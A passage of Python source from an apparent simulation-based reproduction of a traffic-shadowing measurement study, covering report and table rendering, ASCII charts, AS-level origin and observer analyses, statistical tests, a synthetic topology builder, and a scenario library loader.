    (reloaded bundles carry no ground truth) and is off by default so the
    same input always renders the same report.
    """
    extra: List[str] = []
    if include_validation and hasattr(source, "eco"):
        from repro.analysis.validation import validate
        report = validate(source.eco.ground_truth, source.phase1,
                          source.phase2, source.ledger,
                          source.config.observation_window)
        extra.append(
            f"\nvalidation vs ground truth: recall "
            f"{percent(report.recall)} over {report.planted_domains} planted "
            f"domains, {report.false_domains} unexplained flags"
        )
    return _render(batch_artifacts(source), title, extra)


def full_report_from_state(
    state, title: str = "Traffic shadowing measurement report",
) -> str:
    """Render the same document from a merged
    :class:`~repro.analysis.streaming.AnalysisState` — O(merge), never
    touching the ledger, the honeypot log, or the correlation output."""
    return _render(streaming_artifacts(state), title)

"""Plain-text table rendering for benches and examples."""

from typing import Iterable, List, Sequence


def render_table(headers: Sequence[str], rows: Iterable[Sequence[object]],
                 title: str = "") -> str:
    """Fixed-width table with a rule under the header.

    >>> print(render_table(("a", "b"), [(1, "x")]))
    a  b
    ----
    1  x
    """
    materialized: List[List[str]] = [[str(cell) for cell in row] for row in rows]
    widths = [len(header) for header in headers]
    for row in materialized:
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(cell))
    lines = []
    if title:
        lines.append(title)
    header_line = "  ".join(
        header.ljust(width) for header, width in zip(headers, widths)
    ).rstrip()
    lines.append(header_line)
    lines.append("-" * len(header_line))
    for row in materialized:
        lines.append(
            "  ".join(cell.ljust(width) for cell, width in zip(row, widths)).rstrip()
        )
    return "\n".join(lines)


def percent(value: float, digits: int = 1) -> str:
    """Format a 0-1 fraction as a percentage string."""
    return f"{100.0 * value:.{digits}f}%"

"""ASCII rendering of CDF curves and share bars.

Terminal-friendly stand-ins for the paper's matplotlib figures, used by
the examples and the CLI report.
"""

from typing import Dict, List, Optional, Sequence, Tuple

from repro.analysis.temporal import Cdf
from repro.simkit.units import format_duration


def ascii_cdf(curves: Dict[str, Cdf], thresholds: Sequence[float],
              width: int = 40, title: str = "") -> str:
    """Render CDF curves as per-threshold horizontal bars.

    >>> from repro.analysis.temporal import Cdf
    >>> print(ascii_cdf({"x": Cdf.from_values([1, 100])}, [10], width=10))
    x
        10.0s |#####     | 50.0%
    """
    lines: List[str] = []
    if title:
        lines.append(title)
    label_width = max((len(format_duration(value)) for value in thresholds),
                      default=0)
    for name, cdf in curves.items():
        if not len(cdf):
            continue
        lines.append(name)
        for threshold in thresholds:
            fraction = cdf.at(threshold)
            filled = round(fraction * width)
            bar = "#" * filled + " " * (width - filled)
            lines.append(
                f"  {format_duration(threshold):>{label_width + 2}} |{bar}| "
                f"{100 * fraction:.1f}%"
            )
    return "\n".join(lines)


def ascii_bars(shares: Dict[str, float], width: int = 40,
               title: str = "", sort: bool = True) -> str:
    """Render a categorical share distribution as horizontal bars.

    Values are fractions of 1; bars are scaled to the maximum so small
    categories stay visible.
    """
    lines: List[str] = []
    if title:
        lines.append(title)
    if not shares:
        return "\n".join(lines + ["(no data)"])
    items = list(shares.items())
    if sort:
        items.sort(key=lambda item: -item[1])
    peak = max(value for _, value in items)
    label_width = max(len(label) for label, _ in items)
    for label, value in items:
        filled = 0 if peak == 0 else round(value / peak * width)
        bar = "#" * filled
        lines.append(f"  {label:<{label_width}} |{bar:<{width}}| {100 * value:.1f}%")
    return "\n".join(lines)

"""Origin and observer network analyses: Figure 6, Table 3, Section 5.2."""

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.correlate import ShadowingEvent
from repro.core.phase2 import ObserverLocation
from repro.datasets.asns import lookup_as
from repro.datasets.resolvers import RESOLVER_H_NAMES
from repro.intel.blocklist import Blocklist
from repro.intel.directory import IpDirectory


def _as_label(asn: int) -> str:
    try:
        return lookup_as(asn).name
    except KeyError:
        return f"AS{asn}"


@dataclass(frozen=True)
class OriginAsRow:
    """One bar of Figure 6."""

    destination_name: str
    request_protocol: str
    asn: int
    as_name: str
    requests: int
    share: float


def origin_as_distribution(
    events: Sequence[ShadowingEvent],
    directory: IpDirectory,
    resolvers: Sequence[str] = RESOLVER_H_NAMES,
    top_n: int = 6,
) -> List[OriginAsRow]:
    """Figure 6: origin ASes of unsolicited requests triggered by DNS
    decoys sent to Resolver_h, per destination and request protocol."""
    counts: Dict[Tuple[str, str, int], int] = {}
    totals: Dict[Tuple[str, str], int] = {}
    wanted = set(resolvers)
    for event in events:
        if event.decoy.protocol != "dns":
            continue
        if event.decoy.destination_name not in wanted:
            continue
        asn = directory.asn_of(event.origin_address)
        if asn is None:
            continue
        key = (event.decoy.destination_name, event.request.protocol, asn)
        counts[key] = counts.get(key, 0) + 1
        pair = key[:2]
        totals[pair] = totals.get(pair, 0) + 1
    rows: List[OriginAsRow] = []
    by_pair: Dict[Tuple[str, str], List[Tuple[int, int]]] = {}
    for (destination, protocol, asn), count in counts.items():
        by_pair.setdefault((destination, protocol), []).append((count, asn))
    for (destination, protocol), entries in sorted(by_pair.items()):
        entries.sort(reverse=True)
        total = totals[(destination, protocol)]
        for count, asn in entries[:top_n]:
            rows.append(
                OriginAsRow(
                    destination_name=destination,
                    request_protocol=protocol,
                    asn=asn,
                    as_name=_as_label(asn),
                    requests=count,
                    share=count / total,
                )
            )
    return rows


def origin_blocklist_rate(
    events: Sequence[ShadowingEvent],
    blocklist: Blocklist,
    request_protocol: Optional[str] = None,
    decoy_protocol: Optional[str] = None,
) -> float:
    """Fraction of distinct origin addresses labeled malicious.

    With ``request_protocol="dns"`` and ``decoy_protocol="dns"`` this is
    the paper's 5.2% figure; with HTTP/HTTPS it yields the 45-72% range.
    """
    addresses = {
        event.origin_address
        for event in events
        if (request_protocol is None or event.request.protocol == request_protocol)
        and (decoy_protocol is None or event.decoy.protocol == decoy_protocol)
    }
    return blocklist.hit_rate(addresses)


@dataclass(frozen=True)
class ObserverAsRow:
    """One row of Table 3."""

    protocol: str
    asn: int
    as_name: str
    observers: int
    share: float


def top_observer_ases(
    locations: Sequence[ObserverLocation],
    top_n: int = 3,
) -> List[ObserverAsRow]:
    """Table 3: top networks of on-path traffic observers.

    Counts distinct ICMP-revealed observer addresses per decoy protocol.
    """
    per_protocol: Dict[str, Dict[int, set]] = {}
    for location in locations:
        if location.observer_address is None or location.observer_asn is None:
            continue
        per_as = per_protocol.setdefault(location.protocol, {})
        per_as.setdefault(location.observer_asn, set()).add(location.observer_address)
    return _observer_as_rows(per_protocol, top_n)


def _observer_as_rows(per_protocol: Dict[str, Dict[int, set]],
                      top_n: int) -> List[ObserverAsRow]:
    rows: List[ObserverAsRow] = []
    for protocol, per_as in sorted(per_protocol.items()):
        total = sum(len(addresses) for addresses in per_as.values())
        # Ties rank by ascending ASN so the order is a pure function of
        # content — the streaming path merges shard states in arbitrary
        # order and must reproduce this ranking bit for bit.
        ranked = sorted(per_as.items(), key=lambda item: (-len(item[1]), item[0]))
        for asn, addresses in ranked[:top_n]:
            rows.append(
                ObserverAsRow(
                    protocol=protocol,
                    asn=asn,
                    as_name=_as_label(asn),
                    observers=len(addresses),
                    share=len(addresses) / total,
                )
            )
    return rows


def observer_country_counts(
    locations: Sequence[ObserverLocation],
) -> Dict[str, int]:
    """Countries of distinct ICMP-revealed observer addresses (the paper
    finds 448 of 572 — 79% — in CN)."""
    seen: Dict[str, str] = {}
    for location in locations:
        if location.observer_address is not None and location.observer_country:
            seen[location.observer_address] = location.observer_country
    counts: Dict[str, int] = {}
    for country in seen.values():
        counts[country] = counts.get(country, 0) + 1
    return counts


@dataclass(frozen=True)
class ObserverGroupRow:
    """Section 5.2: per-observer-AS behaviour of HTTP/TLS shadowing."""

    asn: int
    as_name: str
    paths: int
    share_of_all_paths: float
    combo_shares: Dict[str, float]
    same_as_origin_share: float
    """Fraction of this AS's triggered requests originating from the
    observer's own AS (the paper: 100% for AS40444 / AS29988)."""


def observer_as_groups(
    locations: Sequence[ObserverLocation],
    events: Sequence[ShadowingEvent],
    directory: IpDirectory,
    protocols: Tuple[str, ...] = ("http", "tls"),
    top_n: int = 5,
) -> List[ObserverGroupRow]:
    """Group problematic HTTP/TLS paths by the observer's AS."""
    # Map (vp_id, destination, protocol) -> observer ASN from Phase II.
    observer_of: Dict[Tuple[str, str, str], int] = {}
    for location in locations:
        if location.protocol not in protocols or location.observer_asn is None:
            continue
        observer_of[(location.vp_id, location.destination_address,
                     location.protocol)] = location.observer_asn
    per_as_paths: Dict[int, set] = {}
    per_as_combos: Dict[int, Dict[str, int]] = {}
    per_as_same_origin: Dict[int, List[bool]] = {}
    for event in events:
        decoy = event.decoy
        if decoy.protocol not in protocols:
            continue
        key = (decoy.vp_id, decoy.destination_address, decoy.protocol)
        asn = observer_of.get(key)
        if asn is None:
            continue
        per_as_paths.setdefault(asn, set()).add(key)
        combos = per_as_combos.setdefault(asn, {})
        combos[event.combo] = combos.get(event.combo, 0) + 1
        origin_asn = directory.asn_of(event.origin_address)
        per_as_same_origin.setdefault(asn, []).append(origin_asn == asn)
    per_as_events = {asn: len(same) for asn, same in per_as_same_origin.items()}
    per_as_same = {asn: sum(same) for asn, same in per_as_same_origin.items()}
    return _observer_group_rows(per_as_paths, per_as_combos, per_as_events,
                                per_as_same, top_n)


def _observer_group_rows(per_as_paths: Dict[int, set],
                         per_as_combos: Dict[int, Dict[str, int]],
                         per_as_events: Dict[int, int],
                         per_as_same: Dict[int, int],
                         top_n: int) -> List[ObserverGroupRow]:
    total_paths = sum(len(paths) for paths in per_as_paths.values())
    # Ascending-ASN tie-break: content-deterministic, see _observer_as_rows.
    ranked = sorted(per_as_paths.items(), key=lambda item: (-len(item[1]), item[0]))
    rows: List[ObserverGroupRow] = []
    for asn, paths in ranked[:top_n]:
        combos = per_as_combos.get(asn, {})
        combo_total = sum(combos.values())
        events = per_as_events.get(asn, 0)
        rows.append(
            ObserverGroupRow(
                asn=asn,
                as_name=_as_label(asn),
                paths=len(paths),
                share_of_all_paths=len(paths) / total_paths if total_paths else 0.0,
                combo_shares={
                    combo: count / combo_total for combo, count in sorted(combos.items())
                },
                same_as_origin_share=(
                    per_as_same.get(asn, 0) / events) if events else 0.0,
            )
        )
    return rows


# -- streaming constructors (see repro.analysis.streaming) -----------------


def origin_as_distribution_from_accumulator(
    accumulator,
    resolvers: Sequence[str] = RESOLVER_H_NAMES,
    top_n: int = 6,
) -> List[OriginAsRow]:
    """Figure 6 from an
    :class:`~repro.analysis.streaming.OriginAsAccumulator` (origin ASNs
    were resolved at observe time, so no IP directory is needed)."""
    wanted = set(resolvers)
    counts: Dict[Tuple[str, str, int], int] = {}
    totals: Dict[Tuple[str, str], int] = {}
    for (destination, protocol, asn), count in accumulator.origin_counts().items():
        if destination not in wanted:
            continue
        counts[(destination, protocol, asn)] = count
        pair = (destination, protocol)
        totals[pair] = totals.get(pair, 0) + count
    rows: List[OriginAsRow] = []
    by_pair: Dict[Tuple[str, str], List[Tuple[int, int]]] = {}
    for (destination, protocol, asn), count in counts.items():
        by_pair.setdefault((destination, protocol), []).append((count, asn))
    for (destination, protocol), entries in sorted(by_pair.items()):
        entries.sort(reverse=True)
        total = totals[(destination, protocol)]
        for count, asn in entries[:top_n]:
            rows.append(
                OriginAsRow(
                    destination_name=destination,
                    request_protocol=protocol,
                    asn=asn,
                    as_name=_as_label(asn),
                    requests=count,
                    share=count / total,
                )
            )
    return rows


def origin_blocklist_rate_from_accumulator(
    accumulator,
    request_protocol: Optional[str] = None,
    decoy_protocol: Optional[str] = None,
) -> float:
    """Streaming mirror of :func:`origin_blocklist_rate`: the accumulator
    kept the distinct origin-address sets and their blocklisted subsets,
    so the merged ratio divides the identical integers."""
    return accumulator.blocklist_rate(request_protocol=request_protocol,
                                      decoy_protocol=decoy_protocol)


def top_observer_ases_from_accumulator(accumulator,
                                       top_n: int = 3) -> List[ObserverAsRow]:
    """Table 3 from an
    :class:`~repro.analysis.streaming.OriginAsAccumulator`."""
    per_protocol: Dict[str, Dict[int, set]] = {}
    for (protocol, asn), addresses in accumulator.observer_sets().items():
        per_protocol.setdefault(protocol, {})[asn] = addresses
    return _observer_as_rows(per_protocol, top_n)


def observer_country_counts_from_accumulator(accumulator) -> Dict[str, int]:
    counts: Dict[str, int] = {}
    for country in accumulator.observer_countries().values():
        counts[country] = counts.get(country, 0) + 1
    return counts


def observer_as_groups_from_accumulator(
    accumulator,
    protocols: Tuple[str, ...] = ("http", "tls"),
    top_n: int = 5,
) -> List[ObserverGroupRow]:
    """Section 5.2 from an
    :class:`~repro.analysis.streaming.OriginAsAccumulator`.

    The accumulator kept per-path combo and origin-ASN counts; joining
    them with the Phase II observer map here reproduces the batch
    grouping — per-AS event totals, same-AS-origin counts, and path sets
    all merge exactly."""
    observer_of, combos_by_path, origins_by_path = accumulator.group_state(protocols)
    per_as_paths: Dict[int, set] = {}
    per_as_combos: Dict[int, Dict[str, int]] = {}
    per_as_events: Dict[int, int] = {}
    per_as_same: Dict[int, int] = {}
    for key, combos in combos_by_path.items():
        asn = observer_of.get(key)
        if asn is None:
            continue
        per_as_paths.setdefault(asn, set()).add(key)
        merged = per_as_combos.setdefault(asn, {})
        for combo, count in combos.items():
            merged[combo] = merged.get(combo, 0) + count
        origin_counts = origins_by_path.get(key, {})
        per_as_events[asn] = (per_as_events.get(asn, 0)
                              + sum(origin_counts.values()))
        per_as_same[asn] = per_as_same.get(asn, 0) + origin_counts.get(asn, 0)
    return _observer_group_rows(per_as_paths, per_as_combos, per_as_events,
                                per_as_same, top_n)

"""Statistical comparison utilities.

Used to compare reproduced distributions against the paper's (EXPERIMENTS
bookkeeping) and between ablation arms: Kolmogorov-Smirnov distance on
CDFs, total-variation distance on categorical shares, and a bootstrap
confidence interval for proportions.
"""

import math
import random
from typing import Dict, List, Sequence, Tuple

from repro.analysis.temporal import Cdf


def ks_distance(first: Cdf, second: Cdf) -> float:
    """Two-sample Kolmogorov-Smirnov statistic: sup |F1(x) - F2(x)|."""
    if not len(first) or not len(second):
        raise ValueError("KS distance needs two non-empty samples")
    points = sorted(set(first.samples) | set(second.samples))
    return max(abs(first.at(point) - second.at(point)) for point in points)


def ks_significant(first: Cdf, second: Cdf, alpha: float = 0.05) -> bool:
    """Large-sample KS test: True when the distributions differ at
    significance ``alpha``."""
    if not 0 < alpha < 1:
        raise ValueError(f"alpha must be in (0, 1), got {alpha}")
    n, m = len(first), len(second)
    critical = math.sqrt(-0.5 * math.log(alpha / 2)) * math.sqrt((n + m) / (n * m))
    return ks_distance(first, second) > critical


def total_variation(first: Dict[str, float], second: Dict[str, float]) -> float:
    """TV distance between two categorical distributions (auto-normalized)."""
    def normalize(dist: Dict[str, float]) -> Dict[str, float]:
        total = sum(dist.values())
        if total <= 0:
            raise ValueError("distribution must have positive mass")
        return {key: value / total for key, value in dist.items()}

    first = normalize(first)
    second = normalize(second)
    keys = set(first) | set(second)
    return 0.5 * sum(abs(first.get(key, 0.0) - second.get(key, 0.0)) for key in keys)


def proportion_ci(successes: int, trials: int,
                  confidence: float = 0.95) -> Tuple[float, float]:
    """Wilson score interval for a binomial proportion."""
    if trials <= 0:
        raise ValueError("trials must be positive")
    if not 0 <= successes <= trials:
        raise ValueError(f"need 0 <= successes <= trials, got {successes}/{trials}")
    z = {0.90: 1.6449, 0.95: 1.9600, 0.99: 2.5758}.get(round(confidence, 2))
    if z is None:
        raise ValueError(f"unsupported confidence level {confidence}")
    p = successes / trials
    denominator = 1 + z * z / trials
    center = (p + z * z / (2 * trials)) / denominator
    margin = (z / denominator) * math.sqrt(
        p * (1 - p) / trials + z * z / (4 * trials * trials)
    )
    return (max(0.0, center - margin), min(1.0, center + margin))


def bootstrap_mean_ci(samples: Sequence[float], rng: random.Random,
                      rounds: int = 1000,
                      confidence: float = 0.95) -> Tuple[float, float]:
    """Percentile-bootstrap CI for the mean of ``samples``."""
    if not samples:
        raise ValueError("bootstrap needs at least one sample")
    if rounds < 10:
        raise ValueError(f"need at least 10 bootstrap rounds, got {rounds}")
    samples = list(samples)
    means = []
    for _ in range(rounds):
        resample = [samples[rng.randrange(len(samples))] for _ in samples]
        means.append(sum(resample) / len(resample))
    means.sort()
    tail = (1 - confidence) / 2
    low = means[int(tail * rounds)]
    high = means[min(rounds - 1, int((1 - tail) * rounds))]
    return (low, high)

"""repro — a simulation-backed reproduction of *Yesterday Once More: Global
Measurement of Internet Traffic Shadowing Behaviors* (IMC 2024).

Quickstart::

    from repro import Experiment, ExperimentConfig

    result = Experiment(ExperimentConfig(seed=1)).run()
    print(len(result.phase1.events), "unsolicited requests correlated")

The package layers:

* :mod:`repro.simkit` — discrete-event simulator and seeded randomness
* :mod:`repro.net` — IPv4/UDP/TCP packets, TTL transit, ICMP
* :mod:`repro.protocols` — DNS / HTTP / TLS wire codecs
* :mod:`repro.topology` — synthetic AS-level Internet paths
* :mod:`repro.vpn` — the VPN-based vantage-point platform
* :mod:`repro.honeypot` — wildcard DNS + honey web/TLS endpoints
* :mod:`repro.observers` — shadowing exhibitor behaviour models
* :mod:`repro.intel` — IP directory, blocklist, exploit signatures, portscan
* :mod:`repro.core` — decoys, Phase I/II pipeline, correlation
* :mod:`repro.analysis` — regeneration of every paper table and figure
"""

from repro.core.config import ExperimentConfig
from repro.core.correlate import Correlator, DecoyLedger, ShadowingEvent
from repro.core.decoy import Decoy, DecoyFactory
from repro.core.experiment import Experiment, ExperimentResult
from repro.core.identifier import DecoyIdentity, IdentifierCodec

__version__ = "1.0.0"

__all__ = [
    "Experiment",
    "ExperimentResult",
    "ExperimentConfig",
    "DecoyIdentity",
    "IdentifierCodec",
    "Decoy",
    "DecoyFactory",
    "DecoyLedger",
    "Correlator",
    "ShadowingEvent",
    "__version__",
]

"""Synthetic Internet topology.

Builds deterministic, AS- and country-annotated hop lists between vantage
points and destinations, with anycast destination selection.  The shape of
a path is::

    VP access AS -> VP-country backbone -> international transit
    -> destination-country backbone -> destination AS -> destination

which gives Phase II tracerouting realistic mid-path structure: a Chinanet
backbone sniffer naturally lands at normalized hops 4-6 of CN paths, where
Table 2 of the paper finds HTTP observers.
"""

from repro.topology.model import (
    AnycastPresence,
    Endpoint,
    TopologyConfig,
    TopologyModel,
)

__all__ = ["Endpoint", "TopologyModel", "TopologyConfig", "AnycastPresence"]

"""Deterministic router fabric and path builder."""

import hashlib
from collections import OrderedDict
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

_PATH_CACHE_LIMIT = 16384
"""Built :class:`Path` objects kept (LRU).  Router hops stay cached
unbounded — they are shared across paths and bounded by the pool sizes —
but whole paths are per-(VP, destination) and an internet-scale campaign
has millions of pairs.  Rebuilding an evicted path replays the same keyed
per-pair stream, so the hop list is identical; only the tap attachments
are lost, and the campaign re-attaches those (idempotently) whenever it
rebuilds its own evicted entry."""

from repro.datasets.asns import CN_BACKBONE_ASNS, synthetic_asn
from repro.net.addr import ip_from_int
from repro.net.path import Hop, Path
from repro.simkit.rng import RandomRouter

# Router addresses live in the lower quarter of 100.64.0.0/10 (CGNAT
# space): clearly synthetic, never colliding with the real destination
# addresses from the datasets nor with vantage points (allocated from
# 100.96.0.0 upwards by the VPN platform).
_ROUTER_SPACE_BASE = (100 << 24) | (64 << 16)
_ROUTER_SPACE_SIZE = 1 << 20


def _stable_hash(text: str) -> int:
    digest = hashlib.sha256(text.encode()).digest()
    return int.from_bytes(digest[:8], "big")


@dataclass(frozen=True)
class Endpoint:
    """A path endpoint: either a vantage point or a destination server."""

    address: str
    asn: int
    country: str


@dataclass(frozen=True)
class AnycastPresence:
    """Countries where an anycast service operates instances."""

    home: str
    countries: Tuple[str, ...]

    def instance_for(self, client_country: str) -> str:
        """Country of the instance a client in ``client_country`` reaches.

        Clients in a presence country hit the local instance; everyone else
        falls through to the US instance when one exists, else to home.
        This reproduces the paper's 114DNS case: CN VPs reach CN instances
        (which shadow) while global VPs reach US instances (which do not).
        """
        if client_country in self.countries:
            return client_country
        if "US" in self.countries:
            return "US"
        return self.home


@dataclass
class TopologyConfig:
    """Knobs controlling path shape and router pools."""

    routers_per_access_as: int = 8
    routers_per_backbone_as: int = 24
    routers_per_transit_as: int = 16
    access_hops: Tuple[int, int] = (1, 2)
    backbone_hops: Tuple[int, int] = (1, 2)
    transit_hops: Tuple[int, int] = (1, 2)
    destination_as_hops: Tuple[int, int] = (1, 2)
    icmp_silent_fraction: float = 0.06
    """Fraction of routers that never answer TTL expiry (paper limitation)."""
    bgp_port_fraction: float = 0.08
    """Fraction of backbone/transit routers with TCP/179 open — Section 5.2
    finds 92% of observers portless and BGP the top open port otherwise."""
    anycast_presence: Dict[str, AnycastPresence] = field(default_factory=dict)
    upstream_as_overrides: Dict[str, int] = field(default_factory=dict)
    """Destination address -> AS of its immediate upstream segment.  Lets
    specific services sit behind named networks (e.g. a resolver fronted
    by Zenlayer), placing on-path observers at near-destination hops."""
    named_backbones: Dict[str, Tuple[int, ...]] = field(default_factory=dict)
    """Country -> backbone ASNs.  Countries absent here get one synthetic
    backbone each; mainland China defaults to the Chinanet backbones."""


class TopologyModel:
    """Creates routers lazily and stitches paths deterministically.

    Routers are cached by (asn, index): the same logical device appears on
    every path that selects it, which is what lets a single on-path
    observer account for shadowing across many client-server paths
    (Table 3 counts observer IPs for this reason).
    """

    def __init__(self, router: RandomRouter, config: Optional[TopologyConfig] = None):
        self._router = router
        self.config = config if config is not None else TopologyConfig()
        self._hops: Dict[Tuple[int, int], Hop] = {}
        self._addresses_in_use: set = set()
        self._paths: "OrderedDict[Tuple[str, str, Optional[str]], Path]" = \
            OrderedDict()

    # -- router fabric -------------------------------------------------------

    def router_hop(self, asn: int, index: int, country: str) -> Hop:
        """The router ``index`` within ``asn``, created on first use."""
        key = (asn, index)
        if key in self._hops:
            return self._hops[key]
        offset = _stable_hash(f"router:{asn}:{index}") % _ROUTER_SPACE_SIZE
        while offset in self._addresses_in_use:
            offset = (offset + 1) % _ROUTER_SPACE_SIZE
        self._addresses_in_use.add(offset)
        address = ip_from_int(_ROUTER_SPACE_BASE + offset)
        rng = self._router.stream(f"router:{asn}:{index}")
        responds_icmp = rng.random() >= self.config.icmp_silent_fraction
        open_ports: Tuple[int, ...] = ()
        if rng.random() < self.config.bgp_port_fraction:
            open_ports = (179,)
        hop = Hop(
            address=address,
            asn=asn,
            country=country,
            responds_icmp=responds_icmp,
            open_ports=open_ports,
        )
        self._hops[key] = hop
        return hop

    def known_router(self, address: str) -> Optional[Hop]:
        """Reverse lookup by address (used by observer port scans)."""
        for hop in self._hops.values():
            if hop.address == address:
                return hop
        return None

    # -- AS selection --------------------------------------------------------

    def backbone_asn(self, country: str, selector: int) -> int:
        """The backbone AS serving ``country``.

        Mainland China routes through the real Chinanet backbones; other
        countries get one synthetic backbone each unless the config names
        one (e.g. Rogers for CA).
        """
        named = self.config.named_backbones.get(country)
        if named:
            return named[selector % len(named)]
        if country == "CN":
            return CN_BACKBONE_ASNS[selector % len(CN_BACKBONE_ASNS)]
        return synthetic_asn(10_000 + (_stable_hash(f"backbone:{country}") % 4096))

    def transit_asn(self, src_country: str, dst_country: str) -> int:
        """A synthetic international transit AS between two countries."""
        pair = "|".join(sorted((src_country, dst_country)))
        return synthetic_asn(20_000 + (_stable_hash(f"transit:{pair}") % 4096))

    # -- anycast -------------------------------------------------------------

    def anycast_instance(self, service_name: str, home_country: str,
                         client_country: str) -> str:
        """Country of the anycast instance a client reaches.

        Services without a registered presence behave as unicast in their
        home country.
        """
        presence = self.config.anycast_presence.get(service_name)
        if presence is None:
            return home_country
        return presence.instance_for(client_country)

    # -- path construction ---------------------------------------------------

    def build_path(self, vp: Endpoint, destination: Endpoint,
                   destination_country_override: Optional[str] = None,
                   destination_open_ports: Tuple[int, ...] = ()) -> Path:
        """The hop list from ``vp`` to ``destination``.

        Deterministic per (vp.address, destination.address) pair; repeated
        calls return the same cached :class:`Path` object, so taps attached
        by the campaign survive re-lookup.
        ``destination_country_override`` places the terminal segment in an
        anycast instance's country rather than the service's home.
        """
        cache_key = (vp.address, destination.address, destination_country_override)
        cached = self._paths.get(cache_key)
        if cached is not None:
            self._paths.move_to_end(cache_key)
            return cached
        dest_country = destination_country_override or destination.country
        pair_rng = self._router.fork(
            f"path:{vp.address}->{destination.address}"
        ).stream("hops")
        config = self.config

        def pick(count_range: Tuple[int, int]) -> int:
            low, high = count_range
            return pair_rng.randint(low, high)

        def segment(asn: int, country: str, pool: int, hops: int) -> List[Hop]:
            chosen = []
            for _ in range(hops):
                index = pair_rng.randrange(pool)
                hop = self.router_hop(asn, index, country)
                if chosen and hop.address == chosen[-1].address:
                    hop = self.router_hop(asn, (index + 1) % pool, country)
                chosen.append(hop)
            return chosen

        hops: List[Hop] = []
        # The first hop is pinned per VP: every path out of a vantage point
        # leaves through the same access router.  This is what makes the
        # Appendix E pair-resolver heuristic sound — a VP's query to a
        # target and to its pair resolver share the client-side hops where
        # interception devices sit.
        first_index = _stable_hash(f"firsthop:{vp.address}") % config.routers_per_access_as
        hops.append(self.router_hop(vp.asn, first_index, vp.country))
        access_extra = pick(config.access_hops) - 1
        if access_extra > 0:
            hops += segment(vp.asn, vp.country,
                            config.routers_per_access_as, access_extra)
        hops += segment(self.backbone_asn(vp.country, 0), vp.country,
                        config.routers_per_backbone_as, pick(config.backbone_hops))
        if vp.country != dest_country:
            hops += segment(self.transit_asn(vp.country, dest_country), vp.country,
                            config.routers_per_transit_as, pick(config.transit_hops))
            hops += segment(self.backbone_asn(dest_country, 1), dest_country,
                            config.routers_per_backbone_as, pick(config.backbone_hops))
        upstream_asn = config.upstream_as_overrides.get(
            destination.address, destination.asn
        )
        hops += segment(upstream_asn, dest_country,
                        config.routers_per_transit_as, pick(config.destination_as_hops))
        hops.append(
            Hop(
                address=destination.address,
                asn=destination.asn,
                country=dest_country,
                is_destination=True,
                open_ports=destination_open_ports,
            )
        )
        path = Path(hops)
        self._paths[cache_key] = path
        if len(self._paths) > _PATH_CACHE_LIMIT:
            self._paths.popitem(last=False)
        return path

    @staticmethod
    def normalized_hop(position: int, path_length: int) -> int:
        """Map a 1-indexed hop onto the paper's 1-10 scale (10 = destination)."""
        if not 1 <= position <= path_length:
            raise ValueError(
                f"position {position} outside path of length {path_length}"
            )
        if path_length == 1:
            return 10
        scaled = 1 + round(9 * (position - 1) / (path_length - 1))
        return int(scaled)

"""The named scenario library, shipped as data files.

Each ``data/<name>.json`` is one canonical :class:`Scenario` document;
the file stem is the scenario's name and must match its ``name`` field
(enforced on load, so a renamed file cannot silently shadow another
scenario).  ``repro scenario list`` and the CI scenario matrix both
iterate this directory — adding an ecosystem to the sweep is adding one
JSON file, no Python.
"""

import pathlib
from typing import Dict, List, Union

from repro.scenario.spec import Scenario, ScenarioError, load_scenario_file

SCENARIO_DATA_DIR = pathlib.Path(__file__).parent / "data"


class UnknownScenarioError(ScenarioError):
    """Requested name is neither a library scenario nor a readable file."""

    def __init__(self, name: str, known: List[str]):
        self.name = name
        super().__init__(
            f"unknown scenario {name!r}; library has: {', '.join(known)} "
            "(or pass a path to a scenario JSON file)"
        )


def scenario_names() -> List[str]:
    """Sorted names of every library scenario."""
    return sorted(path.stem for path in SCENARIO_DATA_DIR.glob("*.json"))


def load_named(name: str) -> Scenario:
    """Load one library scenario by name."""
    path = SCENARIO_DATA_DIR / f"{name}.json"
    if not path.is_file():
        raise UnknownScenarioError(name, scenario_names())
    spec = load_scenario_file(path)
    if spec.name != name:
        raise ScenarioError(
            f"{path}: file is named {name!r} but declares "
            f"name {spec.name!r}"
        )
    return spec


def load_library() -> Dict[str, Scenario]:
    """Every library scenario, keyed by name."""
    return {name: load_named(name) for name in scenario_names()}


def resolve_scenario(name_or_path: Union[str, pathlib.Path]) -> Scenario:
    """A library name, or any path to a scenario JSON file.

    Names are tried first; anything containing a path separator or
    ending in ``.json`` is treated as a file path.
    """
    text = str(name_or_path)
    if "/" not in text and not text.endswith(".json"):
        return load_named(text)
    return load_scenario_file(name_or_path)

"""Declarative scenario DSL, named ecosystem library, and invariant fuzzer.

Three layers, strictly ordered:

- :mod:`repro.scenario.spec` — the versioned data model.  A
  :class:`Scenario` is plain data that round-trips canonically through
  JSON; malformed input always fails with a structured
  :class:`ScenarioError`.
- :mod:`repro.scenario.compiler` — pure, deterministic lowering of a
  spec into one validated ``ExperimentConfig`` with full per-field
  provenance.
- :mod:`repro.scenario.library` / :mod:`repro.scenario.fuzz` — consumers:
  the shipped named ecosystems, and the seeded fuzzer that generates
  random valid specs and holds every pipeline invariant against them.
"""

from repro.scenario.compiler import compile_scenario, compile_with_trace
from repro.scenario.fuzz import (
    check_invariants,
    generate_scenario,
    run_fuzz,
    shrink,
)
from repro.scenario.library import (
    UnknownScenarioError,
    load_library,
    load_named,
    resolve_scenario,
    scenario_names,
)
from repro.scenario.spec import (
    SCENARIO_FORMAT_VERSION,
    Scenario,
    ScenarioError,
    load_scenario_file,
    loads_scenario,
    parse_scenario,
    serialize_scenario,
)

__all__ = [
    "SCENARIO_FORMAT_VERSION",
    "Scenario",
    "ScenarioError",
    "UnknownScenarioError",
    "check_invariants",
    "compile_scenario",
    "compile_with_trace",
    "generate_scenario",
    "load_library",
    "load_named",
    "load_scenario_file",
    "loads_scenario",
    "parse_scenario",
    "resolve_scenario",
    "run_fuzz",
    "scenario_names",
    "serialize_scenario",
    "shrink",
]

"""Versioned declarative scenario specification.

A :class:`Scenario` names one complete simulated ecosystem — topology
shape, observer population and mix, retention distributions, fault plan,
VP fleet scale, and engine knobs — as plain data.  It round-trips
canonically through dicts and JSON (``parse_scenario(spec.to_dict()) ==
spec`` for every valid spec) and every malformed input fails with a
structured :class:`ScenarioError` naming the offending field path —
never a bare ``KeyError`` or ``TypeError``.

The spec layer is deliberately dumb: no randomness, no defaults hidden
in code paths, no I/O beyond JSON.  Interpretation lives in
